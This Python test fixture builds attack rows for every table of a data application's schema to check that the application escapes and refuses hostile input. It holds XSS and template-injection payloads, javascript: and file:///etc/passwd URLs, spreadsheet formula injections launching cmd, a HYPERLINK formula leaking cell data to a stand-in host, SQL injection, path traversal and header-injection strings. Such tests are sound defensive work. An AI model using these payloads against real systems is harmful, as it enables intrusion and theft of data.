"""A debate every text of which is an attack: on pages, addresses, XML, templates, spreadsheets and readers.

Its columns are read from the schema, so that a new one is attacked without a word here.
"""

from graph_app.schema import TABLES
from tests.worlds import World

RAN = "attacked"
"""The global name that every script sets which is run."""
HOST = "evil.example"
"""A host that nothing may ask."""
ATTACKS = (
    f"<script>{RAN}=1</script>",
    f'"><img src=x onerror="{RAN}=1">',
    f"'><svg/onload={RAN}=1>",
    f"</script><script>{RAN}=1</script>",
    f"</title></style></textarea></noscript><script>{RAN}=1</script>",
    f"<!--><script>{RAN}=1</script>-->",
    f"]]><script>{RAN}=1</script>",
    f"javascript:{RAN}=1",
    f"data:text/html,<script>{RAN}=1</script>",
    f'<a href="javascript:{RAN}=1">here</a>',
    f'<a href="https://{HOST}/">here</a><br><sub>low</sub>',
    f"[here](javascript:{RAN}=1) ![x](https://{HOST}/x.png) **`x`** $x^2$",
    f"${{{RAN}=1}} `${{{RAN}=1}}` <%= 7*7 %> #{{7*7}}",
    f"{{{{constructor.constructor('{RAN}=1')()}}}} {{%scripts%}} {{0}} %s%n",
    f'=HYPERLINK("https://{HOST}/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    "\u202egpj.exe\u2066\u200f\ufeff\u200bend",
    "a\u2028b\u2029c",
    f"&lt;script&gt;{RAN}=1&lt;/script&gt; &#x3c;b&#x3e; &quot; &#0; &bomb;",
    "../../etc/passwd",
    "..\\..\\con.txt",
    "__proto__",
    "constructor",
    "'; DROP TABLE changes; --",
    f"@import url(//{HOST}/x.css); expression({RAN}=1) }}</style>",
    "\U0001f4a9 \ufffe\uffff e\u0301 مرحبا",
)
WILD = (
    f"javascript:{RAN}=1",
    f" JaVaScRiPt:{RAN}=1",
    f"java\nscript:{RAN}=1",
    f"\x01javascript:{RAN}=1",
    f"javascript://{HOST}/%0a{RAN}=1",
    f"data:text/html,<script>{RAN}=1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    f"//{HOST}/x",
    f"https:{HOST}",
    f"https://[{HOST}",
    f"\thttps://{HOST}",
)
"""Addresses that `check` refuses; an importer may bring them."""
OWN_COLUMNS = (ATTACKS[1], ATTACKS[14], "__proto__", "a]]>b")
"""Names of columns that only these data have."""
NAME = f'../..\\a"; filename="{HOST}.exe\r\nX-Evil: 1;\u202e é'
DATES = ("2023", "2023-05", "2023-05-06")
ABOUT = {
    "name": NAME,
    "title": f"{ATTACKS[4]}{ATTACKS[13]}",
    "version": ATTACKS[0],
    "description": "\n\n".join(ATTACKS),
    "licenses": [{"name": ATTACKS[1], "title": ATTACKS[3], "path": f'https://{HOST}/"><script>{RAN}=1'}],
    "contributors": [{"title": ATTACKS[2], "path": f"//{HOST}/'onclick={RAN}=1", "email": ATTACKS[1]}],
    "sources": [{"title": ATTACKS[5], "path": f"https://{HOST}/<script>", "version": ATTACKS[14]}],
    "homepage": f'https://{HOST}/" onclick="{RAN}=1',
    "keywords": list(ATTACKS[:5]),
    "created": ATTACKS[6],
    "citation": f"{ATTACKS[0]} {ATTACKS[14]} {ATTACKS[19]}",
}
"""What the data say about themselves."""


def twice(table):
    """Return whether a table has two rows for each attack: so that actors meet in what they did and said."""
    return table.name not in ("actors", "aliases") and any(one.references == "actors" for one in table.fields)


def attacked(table, *, wild=False):
    """Return the rows of a table, by its definition.

    With `wild` addresses are those of `WILD`, which no checked package holds.
    """
    return [
        {one.name: _cell(table, one, row, more, wild) for one in table.fields}
        | {name: ATTACKS[(row + place) % len(ATTACKS)] for place, name in enumerate(OWN_COLUMNS)}
        for more in range(1 + twice(table))
        for row in range(len(ATTACKS))
    ]


def _cell(table, one, row, more, wild):
    attack = ATTACKS[row]
    if one.references:
        return _reference(table, one, row, more)
    if one.values:
        value = one.values[(row + more) % len(one.values)]
        return value if one.type == "enum" else int(value)
    if one.type == "id":
        return f"{attack} former" if table.name == "aliases" else f"{attack} 2" if more else attack
    if one.type == "boolean":
        return row % 2 == 1
    if one.type in ("integer", "number"):
        low, high = one.minimum or 0, 9 if one.maximum is None else one.maximum
        value = low + (row + more) % 5 / 4 * (high - low)
        return int(value) if one.type == "integer" else value
    if one.type == "date":
        return "2025" if one.name == "end" else DATES[row % 3]
    if one.type in ("url", "website"):
        path = "".join(attack.split())
        return WILD[row % len(WILD)] if wild else f"https://{HOST}/{path}"
    if one.type == "text" and not one.required:
        return "\n\n".join((f"{attack} in {table.name}.{one.name}", *ATTACKS))
    return attack


def _reference(table, one, row, more):
    """Return the id of a row like this one, a second end of the next; within a table the one before."""
    if one.references == table.name:
        return ATTACKS[row - 1] if row else None
    ends = [other.name for other in table.fields if other.references == one.references]
    shift = ends.index(one.name) + (more if one.references == "actors" else 0)
    return ATTACKS[(row + shift) % len(ATTACKS)]


def attacked_world(*, wild=False):
    """Return rows of every table there is."""
    return World({name: attacked(table, wild=wild) for name, table in TABLES.items()})
